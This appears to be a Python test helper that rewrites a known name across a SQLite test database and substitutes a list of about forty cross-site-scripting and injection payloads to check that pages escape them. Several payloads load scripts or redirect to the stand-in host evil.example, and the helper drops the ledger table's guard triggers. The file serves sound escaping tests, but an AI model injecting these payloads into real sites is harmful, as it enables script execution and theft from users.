"""What has been tried on other people's pages, and how a name that stands in the database is exchanged for it.

A name is whatever text a person or a file can set. The world of `screens.py` is made with one known name in all of
them; here every place where it came to rest is found again, so that no list of columns has to be kept.
"""

import json
from dataclasses import dataclass

import sqlalchemy as sa

from retinue.base.database import Database, Transaction
from retinue.base.tables import Row
from tests.web.pages.screens import SCRIPTED

PAYLOADS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</select><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<!--<script>alert(1)//-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)//",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    "x onpointerenter=alert(1) x",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x'/>#x\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<form action=//evil.example><button autofocus>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import'//evil.example/x.css';</style>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}${7*7}#{7*7}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    '\\";alert(1);//',
    "__proto__",
    "\u202egnp.<img src=x onerror=alert(1)>",
)


@dataclass(frozen=True)
class Place:
    """One value of one row that holds the known name; as JSON writes it where the column is JSON."""

    table: sa.TableClause
    column: str
    rowid: int
    value: str
    is_json: bool

    def holding(self, name: str) -> str:
        return self.value.replace(_written(SCRIPTED, self.is_json), _written(name, self.is_json))


class Names:
    """Every place of a SQLite database where the known name stands."""

    def __init__(self, database: Database) -> None:
        self.database = database
        self.places = database.read_now(_places)
        database.write_now(_let_the_ledger_change)

    @property
    def columns(self) -> set[str]:
        return {f"{place.table.name}.{place.column}" for place in self.places}

    def become(self, name: str) -> None:
        def rename(now: Transaction) -> None:
            for place in self.places:
                row = sa.column("rowid") == place.rowid
                now.execute(sa.update(place.table).where(row).values({place.column: place.holding(name)}))

        self.database.write_now(rename)


def _let_the_ledger_change(now: Transaction) -> None:
    guards = sa.text("SELECT name FROM sqlite_master WHERE type = 'trigger' AND tbl_name = 'credit_entries'")
    for (name,) in now.execute(guards).all():
        now.execute(sa.text(f"DROP TRIGGER {name}"))


def _places(now: Transaction) -> list[Place]:
    found = []
    for table in Row.metadata.sorted_tables:
        for column in table.columns:
            is_json = isinstance(column.type, sa.JSON)
            if not is_json and not isinstance(column.type, sa.String):
                continue
            wanted, plain = _written(SCRIPTED, is_json), sa.table(table.name, sa.column(column.name))
            value = sa.type_coerce(sa.cast(column, sa.Text()), sa.Text())
            asked = sa.select(sa.literal_column("rowid"), value).select_from(table)
            rows = now.execute(asked.where(sa.func.instr(value, wanted) > 0))
            found += [Place(plain, column.name, rowid, text, is_json) for rowid, text in rows]
    return found


def _written(name: str, is_json: bool) -> str:
    return json.dumps(name, ensure_ascii=False)[1:-1] if is_json else name
